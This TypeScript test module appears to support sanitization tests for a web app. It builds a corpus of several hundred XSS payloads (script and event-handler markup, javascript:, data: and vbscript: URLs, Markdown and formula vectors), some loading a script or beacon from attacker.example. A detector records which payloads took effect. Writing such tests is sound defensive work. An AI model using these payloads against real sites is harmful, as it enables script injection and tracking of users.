/** Text that tries to run a script, to load an external resource, or to break out of its context. */
export interface HostilePayload {
  readonly name: string;
  readonly text: string;
  /**
   * Whether the whole text is a URL. A test must not add text in front of a URL, because that would change the
   * protocol.
   */
  readonly isAddress?: boolean | undefined;
}

/** Script that the payloads try to run. {@link traceOfHostility} detects it. */
const act = "globalThis.pwned=(globalThis.pwned||0)+1";
const elsewhere = "https://attacker.example/beacon";

/** Markup that runs the script when it is rendered or clicked. */
const vectors: Readonly<Record<string, string>> = {
  script: `<script>${act}</script>`,
  scriptSource: `<script src="${elsewhere}.js"></script>`,
  imageError: `<img src=x onerror="${act}">`,
  imageBeacon: `<img src="${elsewhere}.png">`,
  svgLoad: `<svg onload="${act}"></svg>`,
  svgScript: `<svg><script>${act}</script></svg>`,
  svgAnimate: `<svg><animate onbegin="${act}" attributeName=x dur=1s></svg>`,
  svgUse: `<svg><use href="data:image/svg+xml,<svg id='x' onload='${act}'/>#x"></use></svg>`,
  svgForeign: `<svg><foreignObject><body onload="${act}"></body></foreignObject></svg>`,
  mathLink: `<math><mtext><a xlink:href="javascript:${act}">x</a></mtext></math>`,
  frameSource: `<iframe src="javascript:${act}"></iframe>`,
  frameDocument: `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  object: `<object data="javascript:${act}"></object>`,
  embed: `<embed src="javascript:${act}">`,
  link: `<a href="javascript:${act}">click</a>`,
  linkEncoded: `<a href="&#106;avascript&colon;${act}">click</a>`,
  form: `<form action="javascript:${act}"><input type=submit></form>`,
  formAction: `<button formaction="javascript:${act}">press</button>`,
  focus: `<input autofocus onfocus="${act}">`,
  toggle: `<details open ontoggle="${act}"><summary>x</summary></details>`,
  media: `<video><source onerror="${act}"></video>`,
  audio: `<audio src=x onerror="${act}"></audio>`,
  bodyLoad: `<body onload="${act}">`,
  marquee: `<marquee onstart="${act}">x</marquee>`,
  refresh: `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  base: `<base href="${elsewhere}/">`,
  styleSheet: `<link rel="stylesheet" href="${elsewhere}.css">`,
  styleImport: `<style>@import "${elsewhere}.css"; * { background: url(${elsewhere}) }</style>`,
  styleAttribute: `<div style="background:url(${elsewhere});position:fixed;inset:0" onmouseover="${act}">x</div>`,
  template: `<template shadowrootmode="open"><script>${act}</script></template>`,
};

/** Contexts that a payload tries to break out of. */
const contexts: Readonly<Record<string, (vector: string) => string>> = {
  plain: (vector) => vector,
  attribute: (vector) => `"'>${vector}`,
  rawText: (vector) => `</textarea></title></style></script></noscript>${vector}`,
  comment: (vector) => `<!--><!-- -->${vector}<!-- -->`,
  markdown: (vector) => `**Dear** reader,\n\n- ${vector}\n\n> ${vector}`,
  table: (vector) => `| a | b |\n| --- | --- |\n| ${vector} | 1 |`,
  unclosed: (vector) => `<div title="${vector}`,
  splitTag: (vector) => vector.replace("<", "<\n").replace(">", "/ >"),
  upperCase: (vector) => vector.replaceAll(/<(\/?\w+)/g, (tag) => tag.toUpperCase()),
};

/** Payloads that only work through Markdown. */
const markdown: Readonly<Record<string, string>> = {
  link: `[click](javascript:${act})`,
  linkCase: `[click](JaVaScRiPt:${act})`,
  linkEntity: `[click](&#x6A;avascript:${act})`,
  linkTab: `[click](java\tscript:${act})`,
  linkControl: `[click](\u0001javascript:${act})`,
  linkData: `[click](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucHduZWQ9MTwvc2NyaXB0Pg==)`,
  linkVbscript: `[click](vbscript:MsgBox(1))`,
  linkFile: `[click](file:///etc/passwd)`,
  linkBlob: `[click](blob:null/1)`,
  linkOrigin: `[click](//attacker.example/beacon)`,
  linkTitle: `[click](https://example.com "x\\" onmouseover=\\"${act}")`,
  automatic: `<javascript:${act}>`,
  reference: `[click][r]\n\n[r]: javascript:${act}`,
  image: `![x](javascript:${act})`,
  imageBeacon: `![x](${elsewhere}.png)`,
  imageBreakout: `![x](x"onerror="${act})`,
  imageData: `![x](data:image/svg+xml,<svg/onload=${encodeURIComponent(act)}>)`,
  imageReference: `![x][i]\n\n[i]: ${elsewhere}.png`,
  footnote: `x[^1]\n\n[^1]: <img src=x onerror="${act}">`,
  fence: `\`\`\`"><img src=x onerror="${act}">\nx\n\`\`\``,
  clobber: `<form id="root"><input name="attributes"></form> <a id="app" name="location">x</a>`,
  formulaLink: `$\\href{javascript:${act}}{x_1}$ and $$\\url{javascript:${act}}$$`,
  formulaStyle: `$$\\htmlStyle{position:fixed}{x} \\htmlClass{shell}{y}$$`,
  formulaImage: `$$\\includegraphics{${elsewhere}.png}$$`,
  formulaExpansion: `$$\\def\\a{\\b\\b}\\def\\b{\\a\\a}\\a$$`,
  codeLanguage: `\`\`\`xml\n<script>${act}</script>\n\`\`\``,
  nesting: `${"[".repeat(60)}x${"](javascript:1)".repeat(60)}`,
};

/** Short form of the script, for a payload that fits into every preview. */
const assign = "globalThis.pwned=1";

/** Payloads that work as the URL of a link, form or frame. */
const addresses: Readonly<Record<string, string>> = {
  plain: `javascript:${assign}`,
  upperCase: `JAVASCRIPT:${assign}`,
  mixedCase: `jAvAsCrIpT:${assign}`,
  tab: `java\tscript:${assign}`,
  newline: `java\nscript:${assign}`,
  carriageReturn: `javascript\r\n:${assign}`,
  leadingControl: `\u0001\u001fjavascript:${assign}`,
  leadingSpace: `  javascript:${assign}`,
  comment: `javascript://example.com/%0a${assign}`,
  entity: `&#106;avascript:${assign}`,
  entityTab: `java&Tab;script&colon;${assign}`,
  percent: `javascript:%67lobalThis.pwned=1`,
  data: `data:text/html,<script>1</script>`,
  dataCase: `DATA:text/html;charset=utf-8,<b>x</b>`,
  dataBase64: `data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+`,
  dataSvg: `data:image/svg+xml,<svg onload=1 />`,
  vbscript: `vbscript:MsgBox(1)`,
  vbscriptCase: `VbScRiPt\t:MsgBox(1)`,
  file: `file:///etc/passwd`,
  nested: `view-source:javascript:${assign}`,
};

/** All payloads, more than three hundred: each vector in each context, Markdown, and URLs. */
export const hostilePayloads: readonly HostilePayload[] = [
  ...Object.entries(vectors).flatMap(([vector, text]) =>
    Object.entries(contexts).map(([context, place]) => ({ name: `${vector} in ${context}`, text: place(text) })),
  ),
  ...Object.entries(markdown).flatMap(([name, text]) => [
    { name: `markdown ${name}`, text },
    { name: `markdown ${name} in a quote`, text: `> ${text.replaceAll("\n", "\n> ")}` },
  ]),
  ...Object.entries(addresses).map(([name, text]) => ({ name: `address ${name}`, text, isAddress: true })),
];

export const hostileAddresses: readonly string[] = Object.values(addresses);

/** Global object of a page that {@link watchForHostility} watches. */
interface Watched {
  hostility?: Set<string>;
}

/**
 * Runs in the page before any other script. Records effects of hostile texts, even in rows that are only rendered while
 * scrolling.
 */
export function watchForHostility(): void {
  const found = new Set<string>();
  (globalThis as Watched).hostility = found;
  const acting =
    "script:not([src]), iframe:not([src^='blob:']), object, embed, base:nth-of-type(2), meta[http-equiv], form[action], " +
    // The MathML of a formula must not contain links, styles or other markup.
    "math:not([data-formula] math), math [href], math [style], math annotation-xml, marquee, template, [formaction], [srcdoc], main link, main style";
  const leads = new Set([
    "href",
    "src",
    "srcset",
    "xlink:href",
    "action",
    "formaction",
    "data",
    "poster",
    "background",
  ]);
  // Parses a URL like a browser, which ignores tabs, line breaks and case.
  const acts = (address: string): boolean => {
    const { protocol, href } = URL.parse(address, document.baseURI) ?? {};
    if (protocol === "data:") return !/^data:(image\/(png|jpeg|gif|webp|avif|bmp)|audio\/|video\/|,$)/.test(href ?? "");
    return protocol !== undefined && !["http:", "https:", "mailto:", "blob:"].includes(protocol);
  };
  // `hostile-records.ts` writes the character U+202E into every field. Only the explorer may show this character,
  // because it shows responses unchanged.
  const isExplorer = location.pathname.endsWith("/api/graphql");
  const turns = (text: string | null | undefined): boolean => !isExplorer && (text?.includes("\u202E") ?? false);
  const told = new Set([
    "title",
    "aria-label",
    "aria-description",
    "aria-valuetext",
    "alt",
    "placeholder",
    "data-label",
  ]);
  const read = (text: Node): void => {
    const { parentElement: place } = text;
    if (!turns(text.nodeValue) || !place || place.closest("textarea, script")) return;
    found.add(`turned ${place.tagName} ${place.className}: ${text.nodeValue?.slice(0, 100)}`);
  };
  const look = (element: Element): void => {
    for (const child of element.childNodes) if (child.nodeType === Node.TEXT_NODE) read(child);
    if (element.matches(acting)) found.add(element.outerHTML.slice(0, 200));
    for (const { name, value } of element.attributes) {
      if (name.startsWith("on") || (leads.has(name) && acts(value))) {
        found.add(`${element.tagName} ${name}=${value.slice(0, 100)}`);
      }
      if (told.has(name) && turns(value)) found.add(`turned ${element.tagName} ${name}=${value.slice(0, 100)}`);
    }
  };
  const observer = new MutationObserver((changes) => {
    for (const { target, addedNodes } of changes) {
      const added = [...addedNodes].filter((node) => node instanceof Element);
      if (target instanceof Element) look(target);
      else read(target);
      for (const element of added) for (const each of [element, ...element.querySelectorAll("*")]) look(each);
    }
  });
  observer.observe(document, { subtree: true, childList: true, attributes: true, characterData: true });
}

/** Runs in the page. Returns the findings of {@link watchForHostility}. */
export function traceOfHostility(): string[] {
  const { hostility } = globalThis as Watched;
  if (hostility === undefined) return ["not watched"];
  return [...hostility, ...("pwned" in globalThis ? ["a script ran"] : [])];
}
